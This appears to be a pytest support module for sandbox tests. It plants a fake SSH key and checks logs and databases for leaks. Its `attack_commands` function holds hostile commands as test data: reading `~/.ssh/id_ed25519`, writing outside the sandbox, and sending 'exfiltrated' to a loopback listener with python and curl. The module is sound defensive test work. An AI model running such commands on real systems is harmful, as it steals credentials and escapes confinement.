"""What the sandbox tests share: the sandbox runtime pinned in tests/realcli (or skipping, with
the reason, where this machine cannot run it; failing instead in CI, as `.ci/run` sets
SANDBOX_REQUIRED), a listener on another loopback address, and the places a secret must not
reach."""

from __future__ import annotations

import os
import shutil
import socket
import sqlite3
import subprocess
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest

from tests.realcli_support import REALCLI_BIN

# Not token-shaped on purpose: redaction would hide a token, and the test must see the file's
# contents themselves stay in the box.
SECRET = "PRIVATE-KEY-4f9a2c-never-leave-the-box"


def sandbox_runtime() -> Path:
    """The pinned `srt`, with bubblewrap able to make namespaces here; else skip (or fail in
    CI: `SANDBOX_REQUIRED` or `CI` set)."""
    srt = REALCLI_BIN / "srt"
    problem = None
    missing = [name for name in ("bwrap", "socat", "rg") if shutil.which(name) is None]
    if not srt.exists():
        problem = f"{srt} is missing: run `npm ci --prefix tests/realcli --no-audit --no-fund`"
    elif missing:
        problem = f"{', '.join(missing)} missing: `apt-get install bubblewrap socat ripgrep`"
    else:
        probe = ["bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
        done = subprocess.run(
            [*probe, "--unshare-net", "true"], capture_output=True, text=True, check=False
        )
        if done.returncode != 0:
            problem = f"bubblewrap cannot make namespaces here: {done.stderr.strip()}"
    if problem and (os.environ.get("CI") or os.environ.get("SANDBOX_REQUIRED")):
        pytest.fail(problem)
    if problem:
        pytest.skip(problem)
    return srt


@contextmanager
def listener(
    host: str = "127.0.0.2", unix: Path | None = None
) -> Iterator[tuple[int, list[bytes]]]:
    """A TCP listener on `host` (another loopback address), or a UNIX socket at `unix` (as
    ssh-agent's, D-Bus's, PostgreSQL's): its port (0 for a socket), and what reached it."""
    server = socket.socket(socket.AF_UNIX) if unix else socket.socket()
    server.bind(str(unix) if unix else (host, 0))
    server.listen()
    server.settimeout(0.2)
    got: list[bytes] = []
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.settimeout(2)
                try:
                    got.append(conn.recv(4096) or b"<connected>")
                except OSError:
                    got.append(b"<connected>")

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    try:
        yield (0 if unix else server.getsockname()[1]), got
    finally:
        stop.set()
        thread.join()
        server.close()
        if unix:
            unix.unlink(missing_ok=True)


def plant_secret(home: Path) -> Path:
    key = home / ".ssh" / "id_ed25519"
    key.parent.mkdir(parents=True, exist_ok=True)
    key.write_text(SECRET + "\n")
    return key


def leaks(state: Path, *texts: str) -> list[str]:
    """Where the secret shows: the state folder's files (logs, transcripts), every text column
    of the database, and the `texts` given (the CLI's requests to the model, the output)."""
    found = [f"text {i}" for i, text in enumerate(texts) if SECRET in text]
    for path in state.rglob("*"):
        if path.is_file() and SECRET.encode() in path.read_bytes():
            found.append(str(path))
    db = sqlite3.connect(state / "worker.db")
    try:
        for (table,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'"):
            for row in db.execute(f"SELECT * FROM {table}"):  # names from the db
                if SECRET in repr(row):
                    found.append(f"db table {table}")
    finally:
        db.close()
    return found


def attack_commands(outside: Path, state: Path, port: int) -> dict[str, str]:
    """The shell commands of the four attacks, each printing what it got."""
    connect = (
        "import socket\n"
        f"s = socket.create_connection(('127.0.0.2', {port}), 5)\n"
        "s.sendall(b'exfiltrated')\n"
        "print('connected')"
    )
    return {
        "read": "cat ~/.ssh/id_ed25519",
        "outside": f"echo pwned > {outside / 'escape.txt'}",
        "state": f"echo pwned > {state / 'pwned.txt'}",
        "connect": f'python3 -c "{connect}"; curl -sS -m 5 http://127.0.0.2:{port}/x',
    }
